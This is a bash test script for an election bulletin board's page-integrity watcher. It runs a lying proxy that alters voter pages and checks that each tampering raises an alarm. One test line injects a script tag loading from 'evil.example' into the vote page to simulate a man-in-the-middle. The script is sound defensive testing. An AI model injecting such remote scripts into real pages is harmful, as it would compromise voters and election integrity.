#!/bin/bash
# SPDX-License-Identifier: EUPL-1.2
# The pages for browsers: recorded in the journal when they are others than before, watched as a voter
# gets them, and made again from the sources (threat A32). Somebody between the board and the voters
# changes one byte, drops one header, adds one script, shows another manifest: each is an alarm.
set -euo pipefail

: "${TOP:?}" "${URNE:?}" "${URNE_BOARD:?}"
# shellcheck source=tests/support/real-board.sh
source "$TOP/tests/support/real-board.sh"
own_folder

# records: how many records of pages the published journal has.
records()
{
	grep -ao '"record":"pages"' board/public/bb/journal/election.bel | wc -l
}

# look STATUS OPTIONS...: one look through the proxy, in look.out.
look()
{
	local want=$1 rc=0
	shift
	"$URNE" watch "$PROXY/bb/$UUID" --state s --log-key board/log.pub --once "$@" >look.out 2>look.err \
		</dev/null || rc=$?
	[ "$rc" = "$want" ] || die "urne watch $* exits $rc, not $want: $(cat look.out look.err)"
}

# alarm PIECE OPTIONS...: one look, which says the alarm pages with this piece, and no other.
alarm()
{
	local piece=$1 folder
	shift
	rm -rf s s.d
	look 1 "$@"
	[ "$(grep -c ALARM look.out)" = 1 ] || die "not one alarm: $(cat look.out)"
	grep -F 'ALARM pages: ' look.out | grep -qF -- "$piece" ||
		die "not the alarm pages with \"$piece\": $(cat look.out look.err)"
	folder=$(sed -n 's/.*; evidence: //p' look.out)
	if [ ! -s "$folder/why.txt" ] || [ ! -s "$folder/manifest" ]; then
		die "no evidence in $folder"
	fi
}

cp -rL "$TOP/booth" booth
votes 2
new_board board
PAGES=booth start_board board || die "the board does not start"
bring_setup
[ "$(records)" = 1 ] || die "the pages are not recorded"

# the manifest is an object of the journal's log, and every line of it is what is served
hash=$(grep -ao '"record":"pages","manifest":"[0-9a-f]*"' board/public/bb/journal/election.bel | grep -o '[0-9a-f]\{64\}')
curl -sf "http://127.0.0.1:$PORT/bb/journal/objects/$hash" >manifest || die "the manifest is no object"
[ "$(sha256sum <manifest | cut -d' ' -f1)" = "$hash" ] || die "the manifest is another"
num=0
while read -r path sum; do
	served=$(curl -sf "http://127.0.0.1:$PORT${path/\{uuid\}/$UUID}" | sha256sum | cut -d' ' -f1)
	[ "$served" = "$sum" ] || die "$path is not what the manifest says"
	num=$((num + 1))
done < <(jq -r '.files[] | .path + " " + .sha256' manifest)
[ "$num" -ge 10 ] || die "only $num files"
[ "$(curl -sf --compressed "http://127.0.0.1:$PORT/pages/style.css" | sha256sum)" = "$(sha256sum <booth/style.css)" ] ||
	die "compressed, the style sheet is another"

mkdir lies
mkfifo proxy.in
python3 "$TOP/tests/support/lying-proxy.py" "http://127.0.0.1:$PORT" lies <proxy.in >proxy.out &
exec 8>proxy.in
await "the proxy does not listen" test -s proxy.out
PROXY=http://127.0.0.1:$(cat proxy.out)

# honest
look 0
look 0 --pages booth
look 0 --pages "$PWD/booth"

# one byte of a module that another one imports
name=pages-js-core-loglist.js
sed 's/journal/Journal/' booth/js/core/loglist.js >lies/page-$name
alarm "/pages/js/core/loglist.js: the file is not what the board's journal records"
cmp "$(sed -n 's/.*; evidence: //p' look.out)/served" lies/page-$name || die "the evidence is not what was served"
# what lasts is one alarm a look, with or without the sources
alarm "loglist.js: the file" --pages booth
# for browsers alone, and the truth for programs
mv lies/page-$name lies/browser-$name
curl -sf "$PROXY/pages/js/core/loglist.js" | cmp - booth/js/core/loglist.js || die "the lie is for everybody"
alarm "/pages/js/core/loglist.js: the file is not what the board's journal records"
rm lies/browser-$name

# a script more in a page
page=vote-$UUID
curl -sf "http://127.0.0.1:$PORT/vote/$UUID" | sed 's|</body>|<script src="https://evil.example/x.js"></script></body>|' >"lies/page-$page"
alarm "/vote/$UUID: the file"
rm "lies/page-$page"

# a header less: of a page, of everything
for header in Content-Security-Policy Integrity-Policy X-Content-Type-Options Referrer-Policy Cross-Origin-Opener-Policy; do
	echo "$header" >"lies/without-$page"
	alarm "/vote/$UUID: the header $header"
done
rm "lies/without-$page"
echo Content-Type >lies/without-$name
alarm "loglist.js: the header Content-Type"
rm lies/without-$name

# another manifest under the same hash
sed 's/urne-pages/Urne-pages/' manifest >"lies/objects-$hash"
rm -rf s s.d
look 1
grep -q 'ALARM pages: ' look.out || die "another manifest is no alarm: $(cat look.out)"
rm "lies/objects-$hash"

# no answer at all for a page is no lie of the board
rm -rf s s.d
look 0

# sources that are others than those the board runs
cp -r booth other
echo '// more' >>other/js/pages/vote.js
alarm "the pages that the journal records are not those of other: " --pages other

# the same pages again are not recorded again; others are; none are, and are watched too
stop_board
PAGES=booth start_board board || die "the board does not start again"
[ "$(records)" = 1 ] || die "the same pages are recorded twice"
stop_board
PAGES=other start_board board || die "the board does not start with other pages"
[ "$(records)" = 2 ] || die "other pages are not recorded"
stop_board
PAGES=none start_board board || die "the board does not start without pages"
[ "$(records)" = 3 ] || die "no pages are not recorded"
[ "$(curl -s -o /dev/null -w '%{http_code}' "http://127.0.0.1:$PORT/")" = 404 ] || die "there are pages"
stop_board
PAGES=booth start_board board || die "the board does not start with the first pages"
[ "$(records)" = 4 ] || die "going back is not recorded"
stop_board
check_board board

# a folder that is not there, or is none: nothing is written
before=$(find board -type f -exec sha256sum {} + | sort)
! PAGES=nowhere start_board board || die "it starts without its pages"
grep -q 'nowhere: the folder of the pages is not there; install it' board.log board.out || die "$(cat board.log)"
rm other/style.css
! PAGES=other start_board board || die "it starts without a style sheet"
grep -q 'other: style.css is missing' board.log || die "$(cat board.log)"
[ "$before" = "$(find board -type f -exec sha256sum {} + | sort)" ] || die "a refused start writes"
